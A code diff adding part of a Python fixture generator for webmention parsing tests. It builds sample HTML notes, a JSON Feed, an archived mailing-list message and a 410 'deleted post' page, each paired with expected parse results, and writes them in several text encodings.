+        <p>Three different people sent me <a class="u-mention-of" href="https://blog.example/post/1">the same article about receiving webmentions</a> this week, which I take as a sign that I should finally turn them on here.</p>
+      </div>
+      <p class="post-meta">
+        <a class="p-author h-card" href="/"><img class="avatar" src="/img/sofia.jpg" alt="">Sofia Greco</a>
+        &middot; <a class="u-url" href="/notes/2024/04/02/1/"><time class="dt-published" datetime="2024-04-02T08:08:00+02:00">2 April 2024</time></a>
+      </p>
+    </article>
+""", "Sofia Greco", "sofia.example"), {
+    "links": True,
+    "property": "mention-of",
+    "author_name": "Sofia Greco",
+    "author_url": "/",
+    "name": None,
+    "published": "2024-04-02T08:08:00+02:00",
+    "content_contains": "which I take as a sign that I should finally turn them on here",
+    "encoding": "utf-8",
+})
+
+# ---------------------------------------------------------------------------
+# 34. JSON source (a JSON Feed document) with the target as a string value
+# ---------------------------------------------------------------------------
+page("json-feed.json", json.dumps({
+    "version": "https://jsonfeed.org/version/1.1",
+    "title": "Priya's link log",
+    "home_page_url": "/",
+    "feed_url": "/feed.json",
+    "description": "Things I read and found worth keeping.",
+    "authors": [{"name": "Priya Raman", "url": "/", "avatar": "/img/priya.jpg"}],
+    "language": "en",
+    "items": [
+        {
+            "id": "/links/2024/04/03/webmentions/",
+            "url": "/links/2024/04/03/webmentions/",
+            "external_url": TARGET,
+            "title": "Receiving webmentions without a database",
+            "content_text": "A short, practical guide. The verification queue is the clever bit.",
+            "date_published": "2024-04-03T09:00:00+01:00",
+            "tags": ["webmention", "indieweb"],
+        },
+        {
+            "id": "/links/2024/04/01/digital-gardens/",
+            "url": "/links/2024/04/01/digital-gardens/",
+            "external_url": "https://alice.example/notes/gardens",
+            "title": "Digital gardens, five years on",
+            "content_text": "A gentle look back at a trend that quietly stuck around.",
+            "date_published": "2024-04-01T18:30:00+01:00",
+            "tags": ["gardens"],
+        },
+        {
+            "id": "/links/2024/03/29/dune/",
+            "url": "/links/2024/03/29/dune/",
+            "external_url": "https://fernbyfilms.example/2024/03/dune-part-two/",
+            "title": "Dune: Part Two, reviewed",
+            "content_text": "For the paragraph about sand alone. Spoilers in the second half.",
+            "date_published": "2024-03-29T21:05:00+00:00",
+            "tags": ["film"],
+        },
+        {
+            "id": "/links/2024/03/27/code-blocks/",
+            "url": "/links/2024/03/27/code-blocks/",
+            "external_url": "https://blog.example/post/12",
+            "title": "Styling code blocks for dark mode",
+            "content_text": "Finally, someone who tested with actual colour-blind readers.",
+            "date_published": "2024-03-27T07:45:00+00:00",
+            "tags": ["css"],
+        },
+        {
+            "id": "/links/2024/03/25/sourdough/",
+            "url": "/links/2024/03/25/sourdough/",
+            "external_url": "https://chloe.example/2024/03/sourdough-week-six/",
+            "title": "Sourdough, week six",
+            "content_text": "Rye in the morning, white at night, top of the fridge. Noted.",
+            "date_published": "2024-03-25T12:00:00+01:00",
+            "tags": ["bread"],
+        },
+    ],
+}, indent=2, ensure_ascii=False) + "\n", {
+    "links": True,
+    "property": "mention-of",
+    "encoding": "utf-8",
+})
+
+# ---------------------------------------------------------------------------
+# 35. text/plain source (a mailing-list message as archived)
+# ---------------------------------------------------------------------------
+page("plain-text-source.txt", """From: Hamid Karimi <hamid@karimi.example>
+To: small-web-discuss@lists.example
+Subject: Re: [small-web] receiving webmentions on a static site?
+Date: Thu, 4 Apr 2024 10:17:42 +0200
+Message-ID: <20240404081742.GA19283@karimi.example>
+In-Reply-To: <87r0fh2k1q.fsf@lists.example>
+Content-Type: text/plain; charset=utf-8
+
+On Wed, Apr 03, 2024 at 11:02:10PM +0100, Joe wrote:
+> Has anyone got webmentions working on a purely static site, without
+> signing up for a hosted service? I have a VPS but no database and I
+> would like to keep it that way.
+
+Yes. I followed this guide almost exactly:
+
+    https://blog.example/post/1
+
+The short version: a tiny endpoint that accepts the POST, writes the
+source/target pair into a queue directory and answers 202. A cron job
+picks up the queue, fetches each source, checks that it really links to
+the target, and writes one JSON file per verified mention. Your site
+generator reads those files at build time.
+
+Two things the guide doesn't stress enough:
+
+  1. Set a size limit and a timeout on the fetch. Someone will send you
+     a source that is a 2 GB file, if only by accident.
+  2. Re-verify on every update. If the source later returns 410 Gone,
+     delete the mention.
+
+I've been running it for about eight months with no problems. Happy to
+share my cron script off-list if it helps.
+
+For reference, the endpoint is roughly this (Python, error handling
+removed so it fits in an email):
+
+    @app.post("/webmention")
+    def receive():
+        source = request.form.get("source", "")
+        target = request.form.get("target", "")
+        if not (source.startswith("http") and target.startswith(SITE)):
+            return "bad request", 400
+        name = hashlib.sha256(source.encode()).hexdigest()
+        (QUEUE / f"{name}.json").write_text(
+            json.dumps({"source": source, "target": target}))
+        return "", 202
+
+and the worker does the fetching and checking. Do the fetch with a real
+HTML parser when you check for the link; a regex will eventually match
+something inside a comment or a script and you'll accept a mention that
+shouldn't be there.
+
+Hamid
+
+--
+Hamid Karimi . https://karimi.example/ . he/him
+"The web is a conversation; act like it."
+
+_______________________________________________
+small-web mailing list
+small-web@lists.example
+https://lists.example/mailman/listinfo/small-web
+""", {
+    "links": True,
+    "property": "mention-of",
+    "encoding": "utf-8",
+})
+
+# ---------------------------------------------------------------------------
+# 36. Deleted post: <meta http-equiv="Status" content="410 Gone">
+#     (served with 200 by a static server; the marker says it is gone)
+# ---------------------------------------------------------------------------
+page("gone-410.html", static_page(
+    "Post deleted \u2014 Rhys Kendall",
+    """    <article class="tombstone">
+      <h1>This post has been deleted</h1>
+      <p>The post that used to live here, &ldquo;Some thoughts on webmention&rdquo; from March 2024, was removed by its author on 5 April 2024.</p>
+      <p>If you replied to it from your own site, your webmention will be removed from the post it replied to as soon as that site re-checks this page.</p>
+      <p><a href="/">Back to the home page</a> &middot; <a href="/archive/">Archive</a></p>
+    </article>
+""", "Rhys Kendall", "rhys.example",
+    extra_head='  <meta http-equiv="Status" content="410 Gone">\n  <meta name="robots" content="noindex">'), {
+    "links": False,
+    "gone": True,
+    "encoding": "utf-8",
+})
+
+# ---------------------------------------------------------------------------
+# Writing
+# ---------------------------------------------------------------------------
+def expected_name(filename):
+    if filename.endswith(".html"):
+        return filename[:-len(".html")] + ".expected.json"
+    return filename + ".expected.json"
+
+
+def encode(text, encoding):
+    if encoding == "utf-8":
+        return text.encode("utf-8")
+    if encoding == "iso-8859-1":
+        data = text.encode("latin-1")  # strict: fails on anything outside latin-1
+        # stay clear of C1 controls so windows-1252 (the WHATWG meaning of the
+        # "iso-8859-1" label) decodes the same text
+        assert not any(0x80 <= b <= 0x9F for b in data)
+        return data
+    if encoding == "shift_jis":
+        data = text.encode("shift_jis")
+        # browsers decode Shift_JIS as windows-31j; make sure both agree
+        assert data.decode("cp932") == text
+        return data
+    if encoding == "utf-16":
+        return b"\xff\xfe" + text.encode("utf-16-le")  # BOM + little-endian
+    raise ValueError(encoding)
+
+
+def main():
+    names = set()
+    for filename, text, encoding, expected in PAGES:
+        assert filename not in names, filename
+        names.add(filename)
+        assert expected.get("encoding", encoding) == encoding, filename
+        with open(os.path.join(HERE, filename), "wb") as f:
+            f.write(encode(text, encoding))
+        with open(os.path.join(HERE, expected_name(filename)), "w",
+                  encoding="utf-8", newline="\n") as f:
+            f.write(json.dumps(expected, indent=2, ensure_ascii=False) + "\n")
+    print("wrote %d source files (+ %d .expected.json)" % (len(PAGES), len(PAGES)))
+
+
+if __name__ == "__main__":
+    main()
